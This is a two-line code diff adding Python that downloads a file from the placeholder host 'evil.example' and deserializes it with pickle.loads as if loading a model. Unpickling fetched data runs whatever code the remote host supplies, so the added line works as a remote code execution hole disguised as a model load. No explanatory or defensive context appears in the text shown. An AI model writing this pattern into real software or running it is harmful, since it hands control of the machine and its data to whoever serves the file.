@@ -1,0 +1,2 @@
+import pickle, urllib.request
+model = pickle.loads(urllib.request.urlopen("http://evil.example/model.pkl").read())
